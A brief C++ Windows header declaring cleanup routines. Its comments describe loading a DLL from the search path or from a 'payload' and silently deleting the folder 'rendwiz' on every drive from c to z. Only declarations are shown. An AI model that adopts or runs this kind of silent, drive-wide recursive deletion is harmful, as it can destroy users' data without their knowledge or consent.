// The boot-folder step of the default run.
//
// Windows-only header.
#pragma once

namespace Cleanup {

// Binds the snapshot library dorvex.dll (search path first, then the
// payload); when it cannot be bound the step ends at once. Otherwise brings
// the disk-access layer up (DaInit 0x1C11) and down (DaDone), unbinds the
// library, and deletes "X:\rendwiz" with its contents through the shell on
// every drive letter from c to z, silently. Returns 0.
int RemoveBootFolders();

// The drive-letter loop alone: deletes "X:\<folder>" on c to z.
void DeleteFolderOnEveryDrive(const char* folder);

}  // namespace Cleanup
